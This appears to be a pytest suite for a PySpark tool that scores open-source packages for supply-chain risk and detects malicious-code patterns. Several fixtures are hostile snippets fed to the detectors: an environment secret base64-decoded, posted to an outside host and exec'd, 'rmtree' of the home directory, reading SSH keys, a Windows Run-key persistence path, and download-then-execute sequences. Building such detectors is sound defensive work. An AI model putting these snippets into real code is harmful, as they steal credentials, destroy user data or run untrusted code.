import datetime
import json

import pytest
from pyspark.sql import functions as F

from riskloom.operators import agents, capabilities, compliance, dependencies, drafts, files, indicators, integrity, metadata, queue, reviews, tables, vectors, versions
from riskloom.plans import assessment, exports
from riskloom.streaming import releases

QUEUE = "id bigint, priority int, enqueued_at timestamp, locked_at timestamp, locked_by string, completed_at timestamp, result string, _own string"


def at(minute):
    return datetime.datetime(2025, 1, 1) + datetime.timedelta(minutes=minute)


def now(minute):
    return F.lit(at(minute))


def test_queue_steps(spark):
    rows = [(1, 5, at(0), None, None, None, None, "x"), (2, None, at(0), None, None, None, None, "x"), (3, 1, at(9), at(10), "w", None, None, "x"), (4, 1, at(3), None, None, None, None, "x"), (5, 1, at(1), at(2), "v", None, None, "x"), (6, 0, at(0), at(0), "w", at(1), "OK", "x")]
    q = spark.createDataFrame(rows, QUEUE)
    assert [r.id for r in queue.claimable(q, "w", 3).collect()] == [3, 4, 1]
    held = {r.id: r.locked_by for r in queue.claimed(q, "w", 2, now(20)).collect()}
    assert held == {1: None, 2: None, 3: "w", 4: "w", 5: "v", 6: "w"}
    outcomes = spark.createDataFrame([(3, "ok", None), (5, "retry", "e" * 300), (4, "error", "bad"), (9, "ok", None), (3, "ok", None)], "id bigint, outcome string, error string")
    after = {r.id: r for r in queue.settled(q, outcomes, now(30)).collect()}
    assert after[3].result == "OK" and after[3].completed_at == at(30) and after[5].locked_by is None and after[5].result == "RETRY:" + "e" * 200 and after[5].completed_at is None
    assert after[4].result == "ERR:bad" and after[4].completed_at == at(30) and len(after) == 6 and after[1].result is None
    freed = {r.id: r.result for r in queue.freed(q, now(35), 30).collect()}
    assert freed[5] == "RESET:stuck-worker" and freed[3] is None and freed[6] == "OK"
    assert {r.id for r in queue.purged(q, now(1 + 24 * 60 * 31), 30).collect()} == {1, 2, 3, 4, 5}
    assess = lambda jobs: jobs.select("id", F.lit("ok").alias("outcome"), F.lit(None).cast("string").alias("error"))
    done, results = queue.work(q, "w", 2, now(40), assess)
    assert {r.id for r in results.collect()} == {3, 4} and {r.id for r in done.where("result = 'OK'").collect()} == {3, 4, 6}
    assert queue.claimed(q.limit(0), "w", 2, now(1)).count() == 0


ORDERED = ["0.9", "1.0.dev1", "1.0a1.dev2", "1.0a1", "1.0a2", "1.0b1", "1.0rc1", "1.0", "1.0.post1.dev3", "1.0.post1", "1.0.1", "1.1", "1.10", "1!0.1"]


def test_python_versions_in_order(spark):
    df = spark.createDataFrame([(v,) for v in reversed(ORDERED)] + [("x1",), (None,)], "v string")
    keyed = df.select("v", versions.pep440_key(F.col("v")).alias("k"))
    assert [r.v for r in keyed.where("k IS NOT NULL").orderBy("k").collect()] == ORDERED and keyed.where("k IS NULL").count() == 2


@pytest.mark.parametrize("spec, fits", [
    (">=1.0,<1.1", ["1.0", "1.0.post1", "1.0.1"]), ("~=1.0", ["1.0", "1.0.post1", "1.0.1", "1.1", "1.10"]), ("==1.0.*", ["1.0", "1.0.post1", "1.0.1"]), ("1.0", ["1.0"]), ("!=1.0,>=1.0", ["1.0.post1", "1.0.1", "1.1", "1.10", "1!0.1"]),
    (">1.0", ["1.0.1", "1.1", "1.10", "1!0.1"]), ("<1.0", ["0.9"]), ("===1.0", ["1.0"]), ("~=1.0.0", ["1.0", "1.0.post1", "1.0.1"]), ("!=1.0.*,<1.5", ["0.9", "1.1"]), ("~=1", None), (">=", None), ("", None), ("==1.0.0", ["1.0"]),
])
def test_python_ranges(spark, spec, fits):
    df = spark.createDataFrame([(v, spec) for v in ORDERED], "v string, s string").select("v", versions.pep440_fits(F.col("v"), F.col("s")).alias("f"))
    assert (None if any(r.f is None for r in df.collect()) else [r.v for r in df.where("f").collect()]) == fits


def test_setup_requirements():
    read = dependencies.setup_requirements
    assert read("from setuptools import setup\nsetup(name='a', install_requires=['b>=1', 'c'])") == ["b>=1", "c"]
    assert read("import setuptools\nr = ['b']\nsetuptools.setup(install_requires=r + ('c',))") == ["b", "c"]
    assert read("setup(install_requires=[x, 'b'])") == [] == read("setup(") == read("f(install_requires=['b'])")


def test_dependency_verdicts(spark):
    d = spark.createDataFrame([("npm", "A", "1.0"), ("npm", "a", "^1"), ("npm", "b", "2"), ("npm", "c", "1"), ("PyPI", "a", "1.0")], "ecosystem string, name string, spec string")
    k = spark.createDataFrame([("npm", "a", "1.0,1.1"), ("npm", "B", None)], "ecosystem string, package string, version_glob string")
    got = {(r.ecosystem, r.name, r.spec): r.verdict for r in dependencies.dependency_verdicts(d, k, versions.pinned(F.col("spec"))).collect()}
    assert list(got.values()).count("CLEAN") == 2 and got["npm", "A", "1.0"] == got["npm", "b", "2"] == "MALICIOUS" and got["npm", "a", "^1"] == "INDETERMINATE"


def test_sequence_indicators(spark):
    from riskloom.operators import behavior

    code = "import os, requests, base64\nx = os.getenv('A')\ny = base64.b64decode(x)\nrequests.post('http://a.b', data=y, verify=False)\nexec(y)\nos.system('pip install z')\n__import__('q')\n"
    f = spark.createDataFrame([(1, "p/__init__.py", "python", code), (2, "p/setup.py", "python", "import platform\nplatform.uname()\n"), (3, "p/a.py", "python", "x = 1\n"), (4, None, "python", "eval(x)\n")], "file_id bigint, path string, language string, content string")
    got = {(r.file_id, r.code): r.line_no for r in indicators.sequence_hits(behavior.python_calls(f), f).collect()}
    assert got == {
        (1, "EXS-001"): 2, (1, "EXM-001"): 5, (1, "EXM-005"): 7, (1, "EXM-006"): 6, (1, "EXM-008"): 6, (1, "EXF-001"): 4, (1, "NET-009"): 4, (1, "NET-010"): 4, (1, "DEF-003"): 3,
        (2, "EXS-002"): 2, (2, "SYS-005"): 2, (4, "EXM-001"): 1,
    }


def test_restored_patterns(spark):
    lines = {"a": "x = ctypes.cast(a)(create_string_buffer)", "b": "shutil.rmtree(Path.home())", "c": "exec(base64.b64decode(x))", "d": "method.exec(y)", "e": "open('~/.ssh/id')", "f": "f.write('exec(1)')", "g": r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"}
    df = spark.createDataFrame(list(lines.items()), "id string, t string")
    got = {}
    for r in indicators.line_hits(df, "id", "t").collect():
        got.setdefault(r.id, set()).add(r.code)
    assert got == {"a": {"EXM-003"}, "b": {"SYS-007"}, "c": {"DEF-005"}, "e": {"SYS-003"}, "f": {"EXM-001"}, "g": {"SYS-002"}}
    texts = {"a": "_orig = m.a.b\nm.a.b = z\n_orig(1)", "b": "r = requests.get(u)\nopen('x', 'wb').write(r)\nos.system('x')", "c": "requests.get(u)\nx.eval(1)", "d": "requests.get(u)\neval(1)"}
    df = spark.createDataFrame(list(texts.items()), "id string, t string")
    assert {(r.id, r.code) for r in indicators.text_hits(df, "id", "t").collect()} >= {("a", "EXM-006"), ("b", "DOW-002"), ("d", "DOW-001")}
    assert ("c", "DOW-001") not in {(r.id, r.code) for r in indicators.text_hits(df, "id", "t").collect()}


def test_integrity(spark):
    schema = "c struct<mode:string,etag:string,content_length:int,archive_sha256:string,merkle_root:string>"
    rows = [(("fast", "a", 1, None, None), ("strict", "a", 1, "h", None)), (("strict", "a", 1, "h", None), ("fast", "a", 1, None, None)), (("strict", None, 1, "h", None), ("strict", None, 1, "h", None)),
            (("paranoid", None, 1, "h", "r"), ("paranoid", None, 1, "h", "s")), (("paranoid", None, 1, "h", None), ("paranoid", None, 1, "h", "s")), (("strict", None, 1, None, None), ("strict", None, 1, "h", None))]
    df = spark.createDataFrame(rows, schema.replace("c struct", "cached struct") + ", " + schema.replace("c struct", "fresh struct"))
    assert [r.reason for r in integrity.fingerprint_matches(df).collect()] == ["weaker mode", "match", "match", "root differs", "no root", "no archive hash"]
    t = spark.createDataFrame([(1, "a"), (2, None)], "k int, v string")
    signed = integrity.signed(t, ["k", "v"], b"key")
    forged = signed.unionByName(signed.where("k = 1").withColumn("v", F.lit("b"))).unionByName(signed.where("k = 2").withColumn("row_hmac", F.lit(None).cast("string")))
    assert sorted((r.k, r.v or "", r.intact) for r in integrity.verified(forged, ["k", "v"], b"key").collect()) == [(1, "a", True), (1, "b", False), (2, "", False), (2, "", True)]


def test_provenance(spark):
    npm = lambda dist: json.dumps({"dist-tags": {"latest": "1"}, "versions": {"1": {"dist": dist}}})
    rows = [(npm({"attestations": {"url": "u"}, "signatures": [{"k": "v"}]}), "npm", 2), (npm({"signatures": [{}]}), "npm", 1), (npm({}), "npm", 0), (None, "npm", 0), ("{", "npm", 0), (json.dumps({"urls": [{"provenance": "p"}]}), "PyPI", 2), ("{}", "PyPI", 0)]
    df = spark.createDataFrame(rows, "raw string, eco string, level int")
    assert all(r.level == r.got for r in df.select("level", metadata.provenance_level(F.col("raw"), F.col("eco")).alias("got")).collect())


def test_failed_stages_come_first(spark):
    v = spark.createDataFrame([("npm", "a", "1", "MALICIOUS"), ("npm", "b", "1", "CLEAN"), ("npm", "c", "1", "CLEAN")], "ecosystem string, package string, version string, verdict string")
    s = spark.createDataFrame([("npm", "a", "1", "source", False, "boom"), ("npm", "b", "1", "registry", False, "Not found"), ("npm", "c", "1", "names", False, "x"), ("npm", "c", "1", "registry", True, None)], "ecosystem string, package string, version string, stage string, success boolean, error string")
    assert {r.package: r.verdict for r in assessment.with_failures(v, s).collect()} == {"a": "ERROR", "b": "CANNOT_ANALYZE", "c": "CLEAN"}


def test_stream_batches_end_between_serials(spark, tmp_path):
    folder = tmp_path / "feed"
    folder.mkdir()
    rows = [(1, "a"), (1, "b"), (1, "c"), (2, "d"), (3, "e"), (3, "f")]
    for k in (0, 1):
        (folder / f"{k}.jsonl").write_text("".join(json.dumps({"serial": s, "package": p, "version": "1", "action": "create"}) + "\n" for s, p in rows[k::2]) + "broken\n")
    seen = []
    releases.run_available(releases.changes(spark, str(folder), 2), str(tmp_path / "checkpoint"), lambda batch, n: seen.append(sorted((r.serial, r.package) for r in batch.collect())))
    assert sorted(x for b in seen for x in b) == rows
    for a, b in zip(seen, seen[1:]):
        assert not {s for s, _ in a} & {s for s, _ in b}
    assert max(map(len, seen)) == 3
    whole = []
    for _ in range(2):
        releases.run_available(releases.changes(spark, str(folder)), str(tmp_path / "whole"), lambda batch, n: whole.extend((r.serial, r.package) for r in batch.collect()))
    assert sorted(whole) == rows


def test_blocks_of_neighbours(spark, monkeypatch):
    import numpy as np

    monkeypatch.setattr(vectors, "BLOCK", 4)
    monkeypatch.setattr(vectors, "ROWS", 7)
    rng = np.random.default_rng(1)
    x = rng.normal(size=(40, 5))
    x /= np.linalg.norm(x, axis=1, keepdims=True)
    e = spark.createDataFrame([(k, v.tolist()) for k, v in enumerate(x)] + [(99, None)], "vec_id bigint, embedding array<double>")
    got = {}
    for r in vectors.nearest(e, e.where("vec_id % 3 = 0"), 3).collect():
        got.setdefault(r.query_id, []).append((r.place, r.neighbour_id))
    for q, found in got.items():
        scores = [(-round(float(x[q] @ x[k]), 4), k) for k in range(40) if k != q]
        assert [k for _, k in sorted(found)] == [k for _, k in sorted(scores)[:3]]
    assert len(got) == 14 and vectors.nearest(e, e.where("vec_id < 0"), 3).count() == 0 and vectors.nearest(e.limit(0), e, 3).count() == 0


def test_small_tables(spark):
    f = spark.createDataFrame([(1, "PyPI", "p-1/setup.py"), (2, "npm", "package/bin/a.ts"), (3, "npm", None), (4, None, "a/b/c/d/__init__.py"), (5, "npm", "package/package.json")], "file_id bigint, ecosystem string, path string")
    assert [(r.path_tier, r.name_language, r.analysed) for r in files.tiered(f).orderBy("file_id").collect()] == [(1, "python", True), (2, "unknown", True), (3, "unknown", True), (3, "python", True), (3, "json", True)]
    v = spark.createDataFrame([(1, "MALICIOUS"), (2, "CLEAN"), (3, None)], "k int, verdict string")
    assert [(r.k, r.level) for r in reviews.emitted(v).collect()] == [(1, "danger")]
    a, b = (tables.table_digest(spark.createDataFrame(r, "x string"), ["x"]).collect()[0].digest for r in ([("p",), ("q",), ("q",)], [("q",), ("p",), ("q",)]))
    c = tables.table_digest(spark.createDataFrame([("p",), ("q",)], "x string"), ["x"]).collect()[0].digest
    assert a == b != c and len(a) == 16


def test_agents(spark):
    loop = "while True:\n    r = llm.invoke(p)\n    tool.run(r)\n"
    f = [
        ("PyPI", "my-agent", "1", "a.py", loop), ("PyPI", "bad-agent", "1", "a.py", loop + "subprocess.run(x)\n"), ("PyPI", "root-agent", "1", "a.py", loop + "os.setuid(0)\n"),
        ("PyPI", "plain", "1", "a.py", "os.setuid(0)\n"), ("PyPI", "load-agent", "1", "a.py", loop + "x = requests.get(u).json()\n"), ("PyPI", "eval-agent", "1", "a.py", loop + "globals()[n](1)\n"), ("npm", "empty", "1", None, None),
    ]
    files = spark.createDataFrame([(k, "python", *r) for k, r in enumerate(f)], "file_id int, language string, ecosystem string, package string, version string, path string, content string")
    packages = files.select("ecosystem", "package", "version").distinct().withColumn("description", F.lit(None).cast("string"))
    none = spark.createDataFrame([], "ecosystem string, package string, version string, name string")
    found = agents.signals(packages, files, none)
    assert {r.package for r in found.where("is_agent").collect()} == {r[1] for r in f if r[1].endswith("-agent")}
    declared = spark.createDataFrame([("PyPI", "eval-agent", "1", "code-exec")], "ecosystem string, package string, version string, capability string")
    designs = spark.createDataFrame([("PyPI", "eval-agent", "1", "action-selector")], "ecosystem string, package string, version string, design string")
    capable = capabilities.file_capabilities(files)
    got = {r.package: r.verdict for r in agents.classified(found, agents.rule_hits(files, designs), capable, capabilities.exposure(capable), declared).collect()}
    assert got == {"my-agent": "AGENTIC", "bad-agent": "MALICIOUS", "root-agent": "MALICIOUS", "plain": "CLEAN", "load-agent": "HIGH_RISK", "eval-agent": "SUSPICIOUS", "empty": "CLEAN"}
    assert agents.rule_hits(files.limit(0)).count() == 0


def test_practice(spark):
    v = spark.createDataFrame([("npm", "a", "1", True, True, {"SAST": 6.0, "Fuzzing": 1.0, "Security-Policy": 8.0, "Maintained": -1.0, "Vulnerabilities": 2.0}), ("npm", "b", "1", None, None, None)], "ecosystem string, package string, version string, registry_found boolean, has_integrity boolean, scores map<string,double>")
    f = spark.createDataFrame([("npm", "b", "1", "package/SECURITY.md"), ("npm", "b", "1", "package/CHANGES.txt"), ("npm", "b", "1", None)], "ecosystem string, package string, version string, path string")
    checked = compliance.checks(v, compliance.path_signs(f))
    got = {(r.package, r.check): r.status for r in checked.collect()}
    assert len(got) == 22 and [c for (p, c), s in sorted(got.items()) if p == "a" and s == "PASS"] == ["PO.4.1", "PW.4.4", "PW.4.5", "PW.8.1", "RV.2.1"]
    assert got["a", "RV.1.1"] == got["a", "PS.3.1"] == "FAIL" and got["a", "PW.4.1"] == "UNKNOWN" and [c for (p, c), s in sorted(got.items()) if p == "b" and s == "PASS"] == ["PO.4.1", "PS.2.1", "RV.2.1"]
    assert {r.package: (r.passed, r.failed, r.ratio) for r in compliance.summary(checked).collect()} == {"a": (5, 2, 0.455), "b": (3, 2, 0.273)}


def test_rule_drafts(spark):
    i = spark.createDataFrame([(1, "path", "/a"), (1, "ip", "1.2.3.4"), (2, "domain", "x.y"), (2, "domain", "z.y"), (3, "sha256", "ff")], "id int, type string, value string")
    ran = spark.createDataFrame([(2,), (4,)], "id int")
    found = drafts.patterns(drafts.signs(i, ran))
    got = {r.id: r for r in found.collect()}
    assert set(got) == {1, 2, 4} and not got[1].is_novel and got[2].is_novel and got[2].summary == "external network + process exec" and got[1].codes == "EXF-001,NET-001"
    made = drafts.rule_drafts(found)
    rules = {r.summary: r for r in made.collect()}
    assert len(rules) == 3 and rules["process exec"].severity == "MEDIUM" and rules["external network + process exec"].severity == "HIGH"
    once = drafts.approved(made, made.limit(1).select("rule", F.lit("b").alias("by")))
    assert sorted(r.status for r in once.collect()) == ["approved", "draft", "draft"]
    again = drafts.approved(once.drop("approved_by"), once.select("rule", F.lit("c").alias("by")))
    assert sorted(r.approved_by or "" for r in again.collect()) == ["", "c", "c"]


def test_logs_and_stages(spark):
    log = spark.createDataFrame([(1, "a"), (None, "b")], "k int, v string")
    more = spark.createDataFrame([(None, "x"), (2, "c"), (2, "c")], "k int, v string")
    out = tables.appended(log, more, ["k"])
    assert sorted((r.k or 0, r.v) for r in out.collect()) == [(0, "b"), (1, "a"), (2, "c")]
    assert tables.appended(out, more, ["k"]).count() == 3
    assert [(r.k, r.hit) for r in tables.found_in(more.distinct(), log, ["k"], "hit").orderBy("k").collect()] == [(None, True), (2, False)]
    v = log.select(tables.stage_version([F.col("k"), F.col("v")]).alias("s")).distinct().collect()
    assert len(v) == 2 and all(len(r.s) == 16 for r in v)


def test_tracing_policies(spark):
    i = spark.createDataFrame([(1, "path", '/a"b'), (1, "ip", "1.2.3.4"), (2, "domain", "x"), (3, "ip", "5.6.7.8")], "id int, type string, value string")
    got = {r.id: r.policy for r in exports.tetragon_policies(i, "id").collect()}
    assert set(got) == {1, 3} and '- "1.2.3.4"' in got[1] and "security_file_open" in got[1] and "security_file_open" not in got[3] and "\n  kprobes:\n  - call: tcp_connect\n" in got[3]
